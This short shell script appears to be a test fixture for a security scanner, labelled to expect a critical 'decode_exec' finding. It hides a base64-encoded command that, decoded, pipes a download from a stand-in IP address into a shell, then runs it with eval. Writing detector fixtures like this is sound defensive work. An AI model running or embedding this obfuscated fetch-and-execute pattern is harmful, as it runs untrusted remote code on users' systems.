# expect: shell.decode_exec critical
# note: a decoded string kept in a variable, then evaluated
# path: scripts/tp_decode_var_eval.sh
#!/bin/sh
P=$(echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 -d)
eval "$P"
